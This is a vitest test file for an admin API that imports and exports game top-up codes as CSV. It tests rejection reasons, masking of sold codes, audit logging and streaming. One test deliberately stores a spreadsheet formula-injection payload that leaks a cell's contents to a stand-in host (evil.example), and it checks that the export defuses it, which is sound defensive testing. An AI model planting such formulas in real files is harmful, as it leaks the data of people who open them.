import { beforeAll, describe, expect, it } from 'vitest';
import { createCodeCrypto } from '@topup/server-kit';
import { expectAdminOnly, startAdminTestApp } from '../../../testing/admin-api';

const app = startAdminTestApp();
let crypto: ReturnType<typeof createCodeCrypto>;

beforeAll(async () => {
  crypto = createCodeCrypto(app.config.codesKey);
});

const BASE = '/api/admin/codes';
let counter = 0;
const newCode = () => `CSV-${Date.now().toString(36).toUpperCase()}-${String(++counter).padStart(5, '0')}`;

/** A product selling global codes and codes of one region, with its slug and the region's code. */
async function regionalProduct() {
  const product = await app.fixtures.product({ has_regions: true, has_global_codes: true });
  const region = await app.fixtures.region();
  await app.fixtures.linkRegion(product.id, region.id);
  const { code } = await app.db('regions').where({ id: region.id }).first('code');
  return { product, region: { id: region.id, code: code as string } };
}

const exportCodes = (filter: Record<string, unknown>, body: unknown) =>
  app.asAdmin('POST', `${BASE}/export?filter=${encodeURIComponent(JSON.stringify(filter))}`, body);

/** The rows of a CSV answer (no quoted fields in these tests), the header first. */
const csvRows = (text: string) =>
  text
    .replace(/^\uFEFF/, '')
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => line.split(','));

describe('access', () => {
  it('lets only administrators import and export', async () => {
    await expectAdminOnly(app, app.shopper, [
      { method: 'POST', path: `${BASE}/import`, body: { codes: 'product_id,code,price_usd,price_rub,game_amount' } },
      { method: 'POST', path: `${BASE}/export`, body: { reason: 'stock check' } },
    ]);
  });
});

describe('POST /api/admin/codes/import', () => {
  it('loads good lines to the products and regions they name, and reports bad ones by line number', async () => {
    const { product, region } = await regionalProduct();
    const regionOnly = await app.fixtures.product({ has_regions: true, has_global_codes: false });
    const stored = newCode();
    await app.asAdmin('POST', BASE, { productId: product.id, code: stored, priceUsd: 1, priceRub: 79, gameAmount: 1 });
    const [a, b, c] = [newCode(), newCode(), newCode()];
    const lines = [
      'product_slug,product_id,region,code,price_usd,price_rub,game_amount,popular', // 1 header
      `${product.slug},,${region.code.toLowerCase()},${a},4.99,394.21,100,true`, // 2 ok, regional
      '', // 3 blank
      `,${product.id},,${b},1,79,5,`, // 4 ok, global, by id
      `${product.slug},,global,"${c}",1.50,118.5,5,no`, // 5 ok, quoted
      `${product.slug},,,${stored},1,79,5,`, // 6 already stored
      `${product.slug},,,${a},1,79,5,`, // 7 repeats line 2
      `no-such-product,,,${newCode()},1,79,5,`, // 8 unknown product
      `${product.slug},,ZZ,${newCode()},1,79,5,`, // 9 not one of its regions
      `${regionOnly.slug},,,${newCode()},1,79,5,`, // 10 sells no global codes
      `${product.slug},,,${newCode()},4.999,79,5,`, // 11 bad price
      `${product.slug},,,"${newCode()},1,79,5,`, // 12 quote never closed
    ];
    const response = await app.asAdmin('POST', `${BASE}/import`, { codes: lines.join('\r\n') });
    expect(response.status).toBe(200);
    expect(response.body).toEqual({
      added: 3,
      rejectedCount: 7,
      rejected: [
        { line: 6, reason: 'duplicate', message: 'This code is already stored' },
        { line: 7, reason: 'duplicate', message: 'The same code is on line 2' },
        { line: 8, reason: 'malformed', message: 'No product has the slug "no-such-product"' },
        { line: 9, reason: 'malformed', message: `Region "ZZ" is not one of the regions of ${product.slug} (${region.code})` },
        { line: 10, reason: 'malformed', message: expect.stringContaining(`${regionOnly.slug} sells no global codes`) },
        { line: 11, reason: 'malformed', message: expect.stringContaining('more than 2 decimal places') },
        { line: 12, reason: 'malformed', message: expect.stringContaining('not valid CSV') },
      ],
    });

    const rows = await app.db('stock_codes').where({ source: 'manual' }).where({ product_id: product.id }).whereNot('code_hash', crypto.hash(stored)).orderBy('number');
    expect(rows.map((row) => [crypto.decrypt(row.code_encrypted), row.region_id, row.price_usd, row.price_rub, row.game_amount, row.popular])).toEqual([
      [a, region.id, 499, 39_421, 100, true],
      [b, null, 100, 7900, 5, false],
      [c, null, 150, 11_850, 5, false],
    ]);
    const audit = await app.db('audit_log').where({ action: 'code.csv_import', actor_id: app.admin.id }).orderBy('id', 'desc').first();
    expect(audit.after).toEqual({ form: 'json', productIds: [product.id], added: 3, rejectedCount: 7 });

    // Shoppers are offered the new stock at once.
    const options = await app.request('GET', `/api/products/${product.id}/codes/${region.id}`);
    expect(options.body).toContainEqual({ game_amount: 100, price_usd: 4.99, price_rub: 394.21, available_count: 1 });
  });

  it('refuses a file whose header lacks the needed columns, or an empty one, with 400 and stores nothing', async () => {
    const { product } = await regionalProduct();
    const headerless = await app.asAdmin('POST', `${BASE}/import`, { codes: `${product.slug},,${newCode()},1,79,5` });
    expect(headerless.status).toBe(400);
    expect(headerless.body.error.details[0]).toMatchObject({ field: 'header', message: expect.stringContaining('missing product_id') });
    const empty = await app.asAdmin('POST', `${BASE}/import`, { codes: '\n \n' });
    expect(empty.status).toBe(400);
    expect(await app.db('stock_codes').where({ source: 'manual' }).where({ product_id: product.id }).first()).toBeUndefined();
  });

  it('streams a text/csv body', async () => {
    const { product } = await regionalProduct();
    const codes = [newCode(), newCode()];
    const response = await app.request('POST', `${BASE}/import`, {
      rawBody: ['product_id,code,price_usd,price_rub,game_amount', ...codes.map((code) => `${product.id},${code},2,158,10`)].join('\n'),
      headers: { 'content-type': 'text/csv' },
      token: app.admin.token,
    });
    expect(response.status).toBe(200);
    expect(response.body).toEqual({ added: 2, rejected: [], rejectedCount: 0 });
    const audit = await app.db('audit_log').where({ action: 'code.csv_import' }).orderBy('id', 'desc').first();
    expect(audit.after).toMatchObject({ form: 'stream', added: 2 });
  });
});

describe('POST /api/admin/codes/export', () => {
  it('writes the filtered codes, available ones in clear and sold ones masked, after auditing reason, filter and counts', async () => {
    const { product, region } = await regionalProduct();
    const other = await app.fixtures.product({ has_global_codes: true });
    const available = newCode();
    const header = 'product_id,region,code,price_usd,price_rub,game_amount';
    await app.asAdmin('POST', `${BASE}/import`, {
      codes: [header, `${product.id},${region.code},${available},4.99,394.21,100`, `${other.id},,${newCode()},1,79,5`].join('\n'),
    });
    const [soldId] = await app.fixtures.codes({ productId: product.id, gameAmount: 5, priceUsd: 100, priceRub: 7900, count: 1, status: 'used' });
    const sold = crypto.decrypt((await app.db('stock_codes').where({ source: 'manual' }).where({ number: soldId }).first('code_encrypted')).code_encrypted);

    const filter = { productId: product.id };
    const response = await exportCodes(filter, { reason: '  Move stock to the partner store  ' });
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="codes-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(response.headers.get('cache-control')).toBe('no-store');
    const [columns, ...rows] = csvRows(response.body);
    expect(columns).toEqual(['id', 'product_id', 'product_slug', 'region', 'code', 'price_usd', 'price_rub', 'game_amount', 'popular', 'status', 'order_id', 'sold_at', 'created_at']);
    expect(rows.map((row) => row.slice(1, 10))).toEqual([
      [String(product.id), product.slug, region.code, available, '4.99', '394.21', '100', 'false', 'available'],
      [String(product.id), product.slug, '', `${sold.slice(0, 3)}••••••${sold.slice(-4)}`, '1.00', '79.00', '5', 'false', 'used'],
    ]);

    const audit = await app.db('audit_log').where({ action: 'code.export', actor_id: app.admin.id }).orderBy('id', 'desc').first();
    expect(audit).toMatchObject({
      entity: 'code',
      before: null,
      after: { reason: 'Move stock to the partner store', filter, count: 2, inClear: 1 },
    });

    // Only available codes: the file loads back as it is, and every code in it is already stored.
    const availableOnly = await exportCodes({ productId: product.id, status: 'available' }, { reason: 'Copy for the partner store' });
    expect(csvRows(availableOnly.body)).toHaveLength(2);
    const reloaded = await app.asAdmin('POST', `${BASE}/import`, { codes: availableOnly.body });
    expect(reloaded.body).toEqual({ added: 0, rejectedCount: 1, rejected: [{ line: 2, reason: 'duplicate', message: 'This code is already stored' }] });
    // A sold (masked) line never loads as new stock.
    const withSold = await app.asAdmin('POST', `${BASE}/import`, { codes: response.body });
    expect(withSold.body.rejected[1]).toEqual({ line: 3, reason: 'malformed', message: 'Only available codes load; this one is used' });
  });

  it('writes a code a spreadsheet would run as a formula as quoted text behind a quote; the code is stored as typed and the file loads back', async () => {
    const product = await app.fixtures.product({ has_global_codes: true });
    const formula = `=HYPERLINK("http://evil.example/?"&A1)-${newCode()}`;
    const imported = await app.asAdmin('POST', `${BASE}/import`, {
      codes: ['product_id,code,price_usd,price_rub,game_amount', `${product.id},"${formula.replaceAll('"', '""')}",1,79,5`].join('\n'),
    });
    expect(imported.body).toMatchObject({ added: 1, rejectedCount: 0 });
    const stored = await app.db('stock_codes').where({ source: 'manual' }).where({ product_id: product.id }).first('code_encrypted');
    expect(crypto.decrypt(stored.code_encrypted)).toBe(formula);

    const exported = await exportCodes({ productId: product.id }, { reason: 'Stock check' });
    expect(exported.status).toBe(200);
    const [, line] = exported.body.split('\n');
    expect(line).toContain(`,"'${formula.replaceAll('"', '""')}",`);
    expect(line.split(',').some((cell: string) => /^"?[=+\-@\t\r]/.test(cell))).toBe(false);

    const reloaded = await app.asAdmin('POST', `${BASE}/import`, { codes: exported.body });
    expect(reloaded.body).toEqual({ added: 0, rejectedCount: 1, rejected: [{ line: 2, reason: 'duplicate', message: 'This code is already stored' }] });
  });

  it('refuses an export without a reason or with a bad filter (400), auditing nothing', async () => {
    const before = await app.db('audit_log').where({ action: 'code.export' }).count({ n: '*' });
    for (const [filter, body] of [
      [{}, {}],
      [{}, { reason: '   ' }],
      [{}, { reason: 'ok', extra: 1 }],
      [{ productTitle: 'x' }, { reason: 'stock check' }],
    ] as const) {
      const response = await exportCodes(filter, body);
      expect({ filter, body, status: response.status }).toEqual({ filter, body, status: 400 });
      expect(response.body.error.code).toBe('VALIDATION_FAILED');
    }
    expect(await app.db('audit_log').where({ action: 'code.export' }).count({ n: '*' })).toEqual(before);
  });

  it('streams an export of 100 000 codes', async () => {
    const product = await app.fixtures.product({ has_global_codes: true });
    const encrypted = crypto.encrypt('BULK-EXPORT-CODE-1');
    await app.db.raw(
      `INSERT INTO stock_codes (source, product_id, code_encrypted, code_hash, game_amount, price_usd, price_rub)
       SELECT 'manual', ?, ?, md5(? || g), 10, 99, 7821 FROM generate_series(1, 100000) AS g`,
      [product.id, encrypted, `export-${product.id}-`],
    );
    const started = performance.now();
    const response = await fetch(`${app.baseUrl}${BASE}/export?filter=${encodeURIComponent(JSON.stringify({ productId: product.id }))}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${app.admin.token}`, 'content-type': 'application/json' },
      body: JSON.stringify({ reason: 'Full stock count' }),
    });
    expect(response.status).toBe(200);
    let lines = 0;
    for await (const chunk of response.body as unknown as AsyncIterable<Uint8Array>) {
      for (const byte of chunk) if (byte === 10) lines += 1;
    }
    const seconds = (performance.now() - started) / 1000;
    console.warn(`export of 100 000 codes: ${seconds.toFixed(1)} s`);
    expect(lines).toBe(100_001);
    expect(seconds).toBeLessThan(60);
  }, 90_000);
});
